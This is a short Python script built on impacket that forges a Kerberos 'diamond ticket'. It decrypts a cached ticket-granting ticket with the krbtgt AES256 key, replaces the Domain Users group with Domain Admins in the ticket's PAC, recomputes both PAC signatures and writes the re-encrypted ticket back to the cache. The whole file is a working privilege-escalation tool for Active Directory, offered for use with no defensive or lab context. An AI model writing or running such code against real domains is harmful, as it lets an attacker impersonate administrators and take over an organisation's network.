"""Makes a diamond ticket: `diamond.py CACHE KEY`.

The ticket-granting ticket in the cache is opened with krbtgt's AES256 key. Domain Users (513) becomes
Domain Admins (512) in its PAC, the PAC is signed and the ticket sealed again; all else stays as the
controller wrote it, so that every length stays too.
"""

import struct
import sys

from impacket.krb5 import asn1, crypto
from impacket.krb5.ccache import CCache, CountedOctetString
from pyasn1.codec.der import decoder, encoder

TICKET, SIGNING = 2, 17
LOGON_INFO, SERVER_SIGNATURE, KDC_SIGNATURE = 1, 6, 7
# `GROUP_MEMBERSHIP` of Domain Users, and of Domain Admins: number and attributes ([MS-PAC] 2.2.2).
USERS, ADMINS = struct.pack("<II", 513, 7), struct.pack("<II", 512, 7)

path, key = sys.argv[1], crypto.Key(18, bytes.fromhex(sys.argv[2]))
cache = CCache.loadFile(path)
credential = next(it for it in cache.credentials if it["server"].prettyPrint().startswith(b"krbtgt/"))
ticket = decoder.decode(credential.ticket["data"], asn1Spec=asn1.Ticket())[0]
plain = bytearray(crypto._AES256CTS.decrypt(key, TICKET, bytes(ticket["enc-part"]["cipher"])))

part = decoder.decode(bytes(plain), asn1Spec=asn1.EncTicketPart())[0]
relevant = bytes(part["authorization-data"][0]["ad-data"])
pac = bytes(decoder.decode(relevant, asn1Spec=asn1.AD_IF_RELEVANT())[0][0]["ad-data"])
at = plain.index(pac)
pac = bytearray(pac)


def buffer(wanted):
    for index in range(struct.unpack_from("<I", pac)[0]):
        kind, length, offset = struct.unpack_from("<IIQ", pac, 8 + 16 * index)
        if kind == wanted:
            return slice(offset, offset + length)
    sys.exit(f"no buffer of type {wanted}")


logon = buffer(LOGON_INFO)
if USERS not in pac[logon]:
    sys.exit("Domain Users is not among the groups")
pac[logon] = pac[logon].replace(USERS, ADMINS)
signatures = [slice(it.start + 4, it.stop) for it in map(buffer, (SERVER_SIGNATURE, KDC_SIGNATURE))]
for signature in signatures:
    pac[signature] = bytes(signature.stop - signature.start)
server, kdc = signatures
pac[server] = crypto._SHA1AES256.checksum(key, SIGNING, bytes(pac))
pac[kdc] = crypto._SHA1AES256.checksum(key, SIGNING, bytes(pac[server]))
plain[at : at + len(pac)] = pac

ticket["enc-part"]["cipher"] = crypto._AES256CTS.encrypt(key, TICKET, bytes(plain), None)
credential.ticket = CountedOctetString()
credential.ticket["data"] = encoder.encode(ticket)
credential.ticket["length"] = len(credential.ticket["data"])
cache.saveFile(path)
